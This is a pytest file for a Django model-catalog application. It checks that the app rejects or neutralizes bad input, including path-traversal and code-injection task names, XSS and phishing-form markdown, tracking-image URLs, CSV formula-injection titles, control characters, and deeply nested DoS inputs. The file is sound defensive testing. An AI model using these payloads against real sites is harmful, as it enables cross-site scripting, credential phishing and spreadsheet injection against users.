"""The bad-input table where pages, exports and the catalog meet it: rows 58 and 66 to 70."""

from __future__ import annotations

import csv
import io
import time

import pytest
from django.test import Client

from tests.factories.accounts import make_user
from tests.factories.catalog import NOW, make_edge, make_model
from zoo.accounts import services as accounts
from zoo.accounts.models import Scope
from zoo.catalog.models import Kind, Model, Status
from zoo.core.errors import ZooError
from zoo.lineage.models import Edge, EdgeKind
from zoo.runs.models import Run
from zoo.web import markdown

pytestmark = pytest.mark.django_db


@pytest.fixture
def poster() -> Client:
    """The API, as a curator asks it."""
    made = accounts.create_token(
        acting_user=make_user(role=Scope.CURATE), name="t", scope=Scope.CURATE, now=NOW, lifetime=None
    )
    return Client(headers={"Authorization": f"Token {made.token}"})


@pytest.mark.parametrize(
    "task",
    [
        "../evil",
        "/etc/passwd",
        "tasks/evil.yaml",
        "!function evil.run",
        "humaneval",
        "mbpp",
        "arc_easy\n!function x",
        "a" * 400,
        "",
    ],
)
def test_58_a_task_is_a_name_of_ours_that_runs_no_code(poster: Client, task: str) -> None:
    body = {"student": "demo/student", "tasks": ["arc_easy", task]}
    for address in ("/api/v1/submissions/", "/api/v1/submissions/preflight/"):
        answer = poster.post(address, body, "application/json")
        assert answer.status_code == 400 or answer.json()["ok"] is False
    assert not Run.objects.exists()


CARDS = {
    "script": "<script>alert(1)</script>",
    "javascript link": "[x](javascript:alert(1)) [y](JaVaScRiPt&#58;alert(1))",
    "svg": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "overlay": '<div style="position:fixed;inset:0">pay here</div><style>body{display:none}</style>',
    "form": '<form action="https://evil.example"><input name=password></form>',
    "frame": '<iframe src="https://evil.example"></iframe><object data=x></object><embed src=x>',
    "nested quotes": ">" * 100_000 + " deep",
    "nested lists": "- " * 100_000 + "deep",
    "nested brackets": "[" * 100_000,
    "nested emphasis": "*a **b " * 20_000,
    "5 MB": "word <b>x</b> " * 400_000,
}


@pytest.mark.parametrize("name", CARDS)
def test_66_a_card_becomes_inert_html_within_bounds(name: str) -> None:
    began = time.process_time()
    html = markdown.render(CARDS[name]).html.lower()
    spent = time.process_time() - began
    for active in (
        "<script",
        "<svg",
        "<style",
        "<form",
        "<input",
        "<iframe",
        "<object",
        "<embed",
        'href="java',
    ):
        assert active not in html
    assert len(html) < 4 * markdown.MAX_CHARACTERS
    # A second on an idle machine; what grows faster than the text would take minutes.
    assert spent < 20, f"{spent:.1f} s of CPU time"


@pytest.mark.parametrize(
    "address", ["https://spy.example/p.png", "//spy.example/p.png", "http://10.0.0.1/x.png"]
)
def test_67_a_card_makes_no_visitor_ask_another_site(client: Client, address: str) -> None:
    assert "spy.example" not in markdown.render(f"![p]({address})").html
    assert "10.0.0.1" not in markdown.render(f"![p]({address})").html
    policy = client.get("/")["Content-Security-Policy"]
    assert "img-src 'self' data:" in policy


@pytest.mark.parametrize("title", ['=HYPERLINK("http://evil")', "+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_68_no_cell_of_an_export_is_a_formula(client: Client, title: str) -> None:
    make_model("acme/student", title=title)
    answer = client.get("/api/v1/models/export/?as=csv")
    text = b"".join(answer.streaming_content).decode()  # type: ignore[attr-defined]
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert any(title.strip() in cell for cell in cells)
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.mark.parametrize(
    "license_", ["MIT\nApache-2.0", "x" * (1 << 20), "MIT\x00", "MIT\x1b[31m", "MIT\u202eTIM", ["MIT"]]
)
def test_69_a_license_is_a_short_line(poster: Client, license_: object) -> None:
    draft = {"id": "acme/new", "title": "New", "facts": {"license": license_}, "source": "its card"}
    answer = poster.post("/api/v1/proposals/", {"draft": draft, "reason": "new"}, "application/json")
    assert answer.status_code == 400, answer.content[:300]
    with pytest.raises(ZooError):
        make_model("acme/direct", license=license_)  # type: ignore[arg-type]


def test_70_nothing_is_its_own_ancestor(poster: Client) -> None:
    first, second, third = (make_model(f"acme/{name}") for name in ("a", "b", "c"))
    make_edge(second, first)
    make_edge(third, second)
    for child, parent in (("acme/a", "acme/a"), ("acme/a", "acme/c")):
        draft = {"edges": [{"kind": "distilled_from", "parent": parent}], "source": "its card"}
        answer = poster.post(
            "/api/v1/proposals/", {"draft": draft, "reason": "so", "model": child}, "application/json"
        )
        if answer.status_code == 201:
            decision = {"verdict": "accept", "decision": "fine"}
            answer = poster.post(
                f"/api/v1/proposals/{answer.json()['id']}/decision/", decision, "application/json"
            )
        assert answer.status_code in (400, 409), answer.content[:300]
    assert Edge.objects.count() == 2


def test_70_ten_thousand_children_are_shown_in_bounds(client: Client) -> None:
    parent = make_model("acme/parent")
    organization = parent.organization
    children = Model.objects.bulk_create(
        Model(
            organization=organization,
            name=f"c{number}",
            key=f"acme/c{number}",
            title="c",
            kind=Kind.MODEL,
            created_at=NOW,
        )
        for number in range(10_000)
    )
    Edge.objects.bulk_create(
        Edge(
            child=child,
            parent=parent,
            kind=EdgeKind.DISTILLED_FROM,
            status=Status.DOCUMENTED,
            seen=True,
            recorded_at=NOW,
        )
        for child in children
    )
    found = client.get("/api/v1/models/acme/parent/lineage/").json()
    assert found["truncated"] is True
    assert len(found["nodes"]) <= 500
    for page in ("/models/acme/parent/", "/models/acme/parent/lineage/"):
        answer = client.get(page)
        assert answer.status_code == 200
        assert len(answer.content) < 2_000_000
